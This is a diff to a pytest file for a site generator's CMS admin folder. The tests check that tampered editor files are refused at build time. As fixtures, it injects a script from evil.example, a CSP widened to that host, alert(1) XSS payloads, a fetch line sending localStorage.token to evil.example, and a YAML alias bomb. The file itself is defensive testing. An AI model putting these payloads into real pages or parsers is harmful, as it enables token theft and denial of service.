@@ -2,20 +2,27 @@
 
 from __future__ import annotations
 
+import re
 import shutil
+import sys
 from pathlib import Path
+from types import FrameType
 
 import pytest
 
-from generator.cms.config import BACKENDS, Backend, render_config
+from generator.cms.config import BACKENDS, Backend, make_config, read_backend, render_config
+from generator.cms.known import what_is_known
 from generator.cms.policy import render_policy
 from generator.cms.repository import find_repository
-from generator.cms.write import write_admin
-from generator.output.editor import PAGE_POLICY, editor_files, has_editor, headers_beside
+from generator.cms.write import own_files, write_admin
+from generator.content.load import load_site
+from generator.output.editor import PAGE_POLICY, editor_files, has_editor, headers_beside, is_part
 from generator.output.headers import render_csp, render_headers
 from generator.problems import Report
+from generator.sections import BUILT_IN
 from tests.cms.installed import BACKEND, SITE, site_with_editor
 from tests.scenario import run_cli
+from tools.cms_parts import FILE, render
 
 _CONFIG = render_config({"backend": {"name": "github"}}).encode()
 
@@ -69,27 +76,119 @@ def test_nothing_of_others_is_written_over(what: str, tmp_path: Path) -> None:
 
 
 def test_only_what_the_command_wrote_is_published(made: Path, tmp_path: Path) -> None:
-    names = {file.path for file in editor_files(made)}
+    names = {file.path for file in editor_files(made, Report())}
     assert {"admin/index.html", "admin/admin.js", "admin/config.yml", "admin/sveltia-cms.js"} <= names
-    assert all(file.read() for file in editor_files(made))
+    assert all(file.read() for file in editor_files(made, Report()))
     assert not has_editor(tmp_path)
     folder = tmp_path / "admin"
     folder.mkdir()
     (folder / "index.html").write_text("somebody's own")
     (folder / "config.yml").write_text("somebody: else's\n")
-    assert editor_files(tmp_path) == []
+    assert editor_files(tmp_path, Report()) == []
     (folder / "config.yml").write_bytes(_CONFIG)
     (folder / "secrets.txt").write_text("mine")
     (folder / "fonts").mkdir()
     secret = tmp_path / "secret"
     secret.write_text("mine")
     (folder / "fonts/a.woff2").symlink_to(secret)
-    assert [file.path for file in editor_files(tmp_path)] == ["admin/config.yml", "admin/index.html"]
+    report = Report()
+    assert [file.path for file in editor_files(tmp_path, report)] == ["admin/config.yml"]
+    assert [(problem.name, problem.place.file) for problem in report] == [("changed-editor", "admin/index.html")]
+
+
+CHANGES = {
+    "index.html": lambda data: data.replace(b"</body>", b'<script src="https://evil.example/x.js"></script></body>'),
+    "a policy": lambda data: data.replace(b"script-src 'self'", b"script-src 'self' https://evil.example"),
+    "a host in a policy": lambda data: data.replace(b"connect-src 'self'", b"connect-src 'self' http://evil.example"),
+    "a title": lambda data: data.replace(b": content</title>", b"<script>alert(1)</script>: content</title>"),
+    "admin.js": lambda data: data + b"\nfetch('https://evil.example/' + localStorage.token);",
+    "a field": lambda data: data.replace(b"fields: [", b"fields: [(alert(1), "),
+    "a field that ends": lambda data: data.replace(b"fields: [", b"fields: [{}], label: alert(1), fields: ["),
+    "sveltia-cms.js": lambda data: data + b";alert(1)",
+    "a font": lambda data: b"wOF2" + data[5:],
+    "what the script asks": lambda data: data.replace(b'"version": "', b'"version": "9'),
+    "its sums": lambda data: re.sub(rb'"sveltia-cms.js": "[0-9a-f]+"', b'"sveltia-cms.js": "' + b"0" * 32 + b'"', data),
+}  # fmt: skip
+FILES = {"a policy": "index.html", "a host in a policy": "index.html", "a title": "index.html", "a field": "admin.js",
+         "a field that ends": "admin.js", "a font": "fonts/noto-mono.woff2", "what the script asks": "cms/package.json",
+         "its sums": "cms/package.json"}  # fmt: skip
+
+
+@pytest.mark.parametrize("change", CHANGES)
+def test_a_changed_part_is_never_published(made: Path, tmp_path: Path, change: str) -> None:
+    """Whatever says of itself what it should be, in a folder that whoever changed it could change as well."""
+    name = FILES.get(change, change)
+    site = Path(shutil.copytree(made, tmp_path / "site"))
+    path = site / "admin" / name
+    before = path.read_bytes()
+    path.write_bytes(CHANGES[change](before))
+    assert path.read_bytes() != before
+    report = Report()
+    assert f"admin/{name}" not in {file.path for file in editor_files(site, report)}
+    assert [(problem.name, problem.place.file) for problem in report] == [("changed-editor", f"admin/{name}")]
+    code, said = run_cli(["build", "--as-of", "2026-11-22", "--jobs", "1"], site)
+    assert code == 1
+    assert "error[changed-editor]" in said
+    assert not (site / "output").exists()
+    assert run_cli(["cms"], site)[0] == 0, "which repairs it"
+    assert path.read_bytes() == before
+
+
+def test_the_shipped_sums_are_those_of_the_package() -> None:
+    assert FILE.read_text("utf-8") == render(), "run python -m tools.cms_parts"
+
+
+@pytest.mark.parametrize("name", BACKENDS)
+@pytest.mark.parametrize(
+    "own", [{}, {"api_root": "https://git.lune.example:8443/api/v4", "base_url": "https://auth.lune.example"}]
+)
+@pytest.mark.parametrize("brand", ["Lune", 'L&une "x" <b>', "$policy PRODUCT", "ルネ"])
+def test_what_the_command_writes_is_known_for_every_host_and_brand(name: str, own: dict[str, str], brand: str) -> None:
+    report = Report()
+    site = load_site(SITE, BUILT_IN, report)
+    backend = Backend(name, "a/b", **own)
+    known = what_is_known(site, BUILT_IN)
+    for file, data in own_files(make_config(site, BUILT_IN, known, backend, report), known, backend, brand).items():
+        assert is_part(file, data), file
+
+
+def test_a_bomb_of_aliases_costs_nothing(made: Path, tmp_path: Path) -> None:
+    """Eight levels of nine aliases are 43 million values; the repository is read without them."""
+    lines = ["a0: &a0 [x]", *(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]" for n in range(1, 9))]
+    text = (made / "admin/config.yml").read_text("utf-8")
+    head, _, rest = text.partition("\n")
+    (tmp_path / "config.yml").write_text("\n".join([head, *lines, rest]), "utf-8")
+    events = 0
+
+    def trace(frame: FrameType, event: str, _: object) -> object:
+        nonlocal events
+        events += 1
+        return trace
+
+    before = sys.gettrace()
+    sys.settrace(trace)
+    try:
+        backend = read_backend(tmp_path)
+    finally:
+        sys.settrace(before)
+    assert backend == BACKEND
+    assert events < 20_000
+    for wrong in (
+        "backend: [a]",
+        "backend: {a: [b]}",
+        "backend: *a",
+        "a: b",
+        "[",
+        "backend: {name: github}",
+        "x: " * 2_000_000,
+    ):
+        (tmp_path / "config.yml").write_text(wrong, "utf-8")
+        assert read_backend(tmp_path) is None, wrong[:40]
 
 
 def test_a_linked_folder_is_nobodys_editor(made: Path, tmp_path: Path) -> None:
     (tmp_path / "admin").symlink_to(made / "admin")
-    assert editor_files(tmp_path) == []
+    assert editor_files(tmp_path, Report()) == []
 
 
 def test_headers_keep_what_a_page_cannot_say(made: Path, tmp_path: Path) -> None:
